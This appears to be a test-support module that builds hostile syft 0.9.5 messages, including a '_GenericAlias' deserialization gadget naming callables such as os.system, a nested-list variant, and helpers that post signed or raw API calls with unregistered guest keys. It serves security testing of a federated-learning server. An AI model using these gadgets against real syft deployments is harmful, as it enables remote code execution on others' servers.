"""What an attacker sends, built from syft 0.9.5's own wire format (no fedlearn code path).

Each helper builds raw bytes or raw HTTP requests the way a hostile client or
server would, so the tests exercise the real server, not fedlearn's client.
"""
from __future__ import annotations

import requests

API = "/api/v2"


def alias_blob(path: str, canonical_name: str = "_GenericAlias", **kwargs) -> bytes:
    """A syft message of type ``_GenericAlias`` naming ``path`` (e.g. ``os.system``).

    syft 0.9.5's decoder looked ``path`` up and called it with ``kwargs``.
    """
    from syft.serde.recursive import recursive_scheme
    from syft.serde.serialize import _serialize

    message = recursive_scheme.new_message()
    message.canonicalName = canonical_name
    message.version = 1
    message.init("nonrecursiveBlob", 1)
    message.nonrecursiveBlob[0] = _serialize({"path": path, **kwargs}, to_bytes=True)
    return message.to_bytes()


def in_a_list(blob: bytes) -> bytes:
    """The same gadget one level down, inside a plain list."""
    from syft.serde.recursive import recursive_scheme
    from syft.serde.recursive_primitives import iterable_schema

    items = iterable_schema.new_message()
    items.init("values", 1)
    items.values.init(0, 1)[0] = blob  # each value is a list of byte chunks
    message = recursive_scheme.new_message()
    message.canonicalName, message.version = "list", 1
    message.init("nonrecursiveBlob", 1)
    message.nonrecursiveBlob[0] = items.to_bytes()
    return message.to_bytes()


def server_uid(url: str):
    """The Datasite's id, from its public metadata."""
    import syft as sy

    reply = requests.get(url + API + "/metadata", timeout=30)
    reply.raise_for_status()
    return sy.UID(reply.json()["id"])


def signed_call(signing_key, url: str, path: str, *args, blocking: bool = True, **kwargs):
    """POST one API call signed with ``signing_key`` (a ``SyftSigningKey``); return the answer."""
    import syft as sy
    from syft.client.api import SyftAPICall

    call = SyftAPICall(server_uid=server_uid(url), path=path, args=list(args), kwargs=kwargs,
                       blocking=blocking)
    return post_api_call(url, sy.serialize(call.sign(signing_key), to_bytes=True))


def post_api_call(url: str, body: bytes):
    """POST raw bytes to the API-call route; the decoded answer, or the HTTP status."""
    import syft as sy

    reply = requests.post(url + API + "/api_call", data=body, timeout=60)
    if reply.status_code != 200:
        return reply.status_code
    answer = sy.deserialize(reply.content, from_bytes=True)
    return getattr(answer, "message", answer)  # the signed envelope's payload


def payload(answer):
    """The data inside a signed answer (a SyftAPIData), or the answer itself."""
    data = getattr(answer, "data", answer)
    return getattr(data, "value", data)


def new_key():
    """A key nobody registered: a guest's."""
    from syft.server.credentials import SyftSigningKey

    return SyftSigningKey.generate()
